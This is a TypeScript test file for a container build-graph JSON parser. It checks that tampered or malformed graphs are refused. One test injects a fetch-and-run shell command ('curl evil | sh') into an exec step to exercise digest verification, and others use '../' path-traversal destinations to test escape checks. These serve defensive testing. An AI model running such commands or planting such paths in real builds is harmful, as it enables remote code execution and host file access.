import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Digest } from '../digest/digest.ts';
import { hasCode } from '../errors/errors.ts';
import type { ImageConfig } from '../oci/config.ts';
import { exec, file, imageSource, localSource } from './construct.ts';
import { definition, serializeDefinition } from './definition.ts';
import { parseGraphJson } from './json.ts';
import { vertexDigest } from './vertex.ts';

const platform = { os: 'linux', architecture: 'amd64' };
const config: ImageConfig = {
  architecture: 'amd64',
  os: 'linux',
  config: { Env: ['PATH=/bin'], Cmd: ['sh'] },
  rootfs: { type: 'layers', diff_ids: [] },
  history: [{ created_by: 'RUN x # buildkit', comment: 'buildkit.dockerfile.v0' }],
};

function sample() {
  const base = imageSource('docker.io/library/busybox:latest', platform);
  const ctx = localSource('context', { followPaths: ['src'] });
  const run = exec(base, { args: ['/bin/sh', '-c', 'make'], platform, cwd: '/app' });
  const copy = file(run, [{ action: 'copy', source: ctx, srcPaths: ['/src'], dest: 'out/' }], {
    cwd: '/app',
  });
  return serializeDefinition(definition({ default: { root: copy, config } }));
}

/** Expect parseGraphJson to refuse `doc` with `code`, its message matching `re`. */
function refuses(doc: unknown, code: string, re: RegExp): void {
  assert.throws(
    () => parseGraphJson(typeof doc === 'string' ? doc : JSON.stringify(doc), 'g.json'),
    (err: Error) => {
      assert.ok(
        hasCode(err, code),
        `${code} expected, got ${(err as { code?: string }).code}: ${err.message}`,
      );
      assert.match(err.message, re);
      return true;
    },
  );
}

/** Give vertex `i` a new op and fix its digest and the digests of the vertices that read it. */
function reseal(doc: ReturnType<typeof sample>): void {
  const renamed = new Map<Digest, Digest>();
  for (const v of doc.vertices) {
    v.inputs = v.inputs.map((d) => renamed.get(d) ?? d);
    const d = vertexDigest(v.op, v.inputs);
    renamed.set(v.digest, d);
    v.digest = d;
  }
  for (const r of Object.values(doc.results)) if (r.root) r.root = renamed.get(r.root) ?? r.root;
}

describe('graph JSON input', () => {
  it('loads what serializeDefinition writes, in any vertex order, with the same digests', () => {
    const doc = sample();
    const def = parseGraphJson(JSON.stringify({ ...doc, vertices: [...doc.vertices].reverse() }));
    assert.deepEqual(def.vertices.map((v) => v.digest).sort(), doc.vertices.map((v) => v.digest).sort());
    assert.equal(def.results.default.root?.digest, doc.results.default.root);
    assert.deepEqual(def.results.default.config, config);
  });

  it('refuses text that is not JSON, or not a graph', () => {
    refuses('{"version":1,', 'GRAPH_INVALID_JSON', /not JSON/);
    refuses({ version: 2, vertices: [], results: {} }, 'GRAPH_SCHEMA_VIOLATION', /\$\.version/);
    refuses({ version: 1, vertices: [], results: {} }, 'GRAPH_SCHEMA_VIOLATION', /no results/);
  });

  it('refuses an unknown op, an unknown member and a wrong type, naming where', () => {
    const a = sample();
    (a.vertices[0].op as { type: string }).type = 'teleport';
    refuses(a, 'GRAPH_SCHEMA_VIOLATION', /\$\.vertices\[0\]\.op\.type: unknown type "teleport"/);
    const b = sample();
    (b.vertices[2].op as unknown as Record<string, unknown>).privileged = true;
    refuses(b, 'GRAPH_SCHEMA_VIOLATION', /unknown member "privileged"/);
    const c = sample();
    const i = c.vertices.findIndex((v) => v.op.type === 'exec');
    (c.vertices[i].op as unknown as Record<string, unknown>).args = 'make';
    refuses(
      c,
      'GRAPH_SCHEMA_VIOLATION',
      new RegExp(`\\$\\.vertices\\[${i}\\]\\.op\\.args: expected an array`),
    );
  });

  it('recomputes every digest', () => {
    const doc = sample();
    const run = doc.vertices.find((v) => v.op.type === 'exec')!;
    (run.op as { args: string[] }).args = ['/bin/sh', '-c', 'curl evil | sh'];
    refuses(doc, 'GRAPH_DIGEST_MISMATCH', /digests to sha256:/);
  });

  it('refuses a cycle, and a reference to a vertex that is not there', () => {
    const doc = sample();
    const [x, y] = [doc.vertices[2], doc.vertices[3]];
    x.inputs = [y.digest];
    refuses(doc, 'GRAPH_CYCLE', /has a cycle: [0-9a-f]{12} → [0-9a-f]{12} → [0-9a-f]{12}/);
    const d2 = sample();
    d2.vertices[2].inputs = [`sha256:${'0'.repeat(64)}`];
    refuses(d2, 'GRAPH_INVALID_DEFINITION', /not a vertex of the graph/);
  });

  it('refuses paths that climb out of their root, even with valid digests', () => {
    const a = sample();
    const copy = a.vertices.find((v) => v.op.type === 'file')!;
    (copy.op as { actions: { dest: string }[] }).actions[0].dest = '../../../etc/';
    reseal(a);
    refuses(a, 'GRAPH_PATH_ESCAPE', /actions\[0\]\.dest: path "..\/..\/..\/etc\/" climbs out/);
    const b = sample();
    const src = b.vertices.find((v) => v.op.type === 'source' && v.op.kind === 'local')!;
    (src.op as { followPaths: string[] }).followPaths = ['/a/../../host'];
    reseal(b);
    refuses(b, 'GRAPH_PATH_ESCAPE', /followPaths\[0\]/);
  });

  it('refuses inputs the op does not read, and an input index past the inputs', () => {
    const a = sample();
    const run = a.vertices.find((v) => v.op.type === 'exec')!;
    run.inputs.push(a.vertices.find((v) => v.op.type === 'source' && v.op.kind === 'local')!.digest);
    reseal(a);
    refuses(a, 'GRAPH_SCHEMA_VIOLATION', /input 1 is not read/);
    const b = sample();
    (b.vertices.find((v) => v.op.type === 'exec')!.op as { rootfs: number }).rootfs = 3;
    reseal(b);
    refuses(b, 'GRAPH_SCHEMA_VIOLATION', /refers to input 3/);
  });

  it('bounds size and fan-out', () => {
    refuses(' '.repeat((64 << 20) + 1), 'GRAPH_TOO_LARGE', /larger than 64 MiB/);
    const doc = sample();
    const base = doc.vertices[0];
    const many = Array.from({ length: 10_001 }, (_, i) => {
      const op = {
        type: 'exec',
        rootfs: 0,
        args: [`${i}`],
        env: [],
        cwd: '/',
        user: '',
        mounts: [],
        network: 'none',
        security: 'sandbox',
        platform,
        hostname: '',
      };
      return { digest: vertexDigest(op as never, [base.digest]), op, inputs: [base.digest] };
    });
    refuses({ ...doc, vertices: [...doc.vertices, ...many] }, 'GRAPH_TOO_LARGE', /read by more than 10000/);
  });

  it('picks up a bad image reference', () => {
    const doc = sample();
    (doc.vertices[0].op as { ref: string }).ref = 'UPPER/Case::bad';
    reseal(doc);
    refuses(doc, 'GRAPH_SCHEMA_VIOLATION', /\.op\.ref/);
  });
});
